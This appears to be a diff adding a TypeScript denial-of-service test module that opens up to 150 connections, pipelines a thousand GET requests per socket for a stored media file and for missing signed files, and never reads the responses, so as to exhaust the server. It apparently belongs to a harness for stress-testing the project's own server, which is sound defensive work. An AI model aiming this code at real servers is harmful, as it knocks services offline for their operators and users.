@@ -1,0 +1,32 @@
+/** Pipelined downloads of a stored file, and of files that do not exist, by a client that never reads. */
+import { setTimeout as sleep } from 'node:timers/promises'
+
+import { head } from './client.ts'
+import type { Attack } from './target.ts'
+
+const connectionsMax = 150
+const openedPerTick = 3
+const tickMs = 50
+const pipelined = 1_000
+
+export const unreadMedia: Attack = async ({ mediaPath }) => {
+  const found = head('GET', mediaPath, undefined)
+  const missing = head('GET', mediaPath.replace('signature=', 'signature=x'), undefined)
+  const downloads = Buffer.concat(Array.from({ length: pipelined }, () => found))
+  const misses = Buffer.concat(Array.from({ length: pipelined }, () => missing))
+  return async (client, signal) => {
+    let connections = 0
+    for (let tick = 0; !signal.aborted; tick += 1) {
+      for (let at = 0; at < openedPerTick && connections < connectionsMax; at += 1) {
+        connections += 1
+        const socket = client.openUnread()
+        socket.on('close', () => {
+          connections -= 1
+        })
+        // Every third connection asks for what is not there, whose answers are small and many.
+        socket.write(at === 2 ? misses : downloads)
+      }
+      await sleep(tickMs, undefined, { signal }).catch(() => undefined)
+    }
+  }
+}
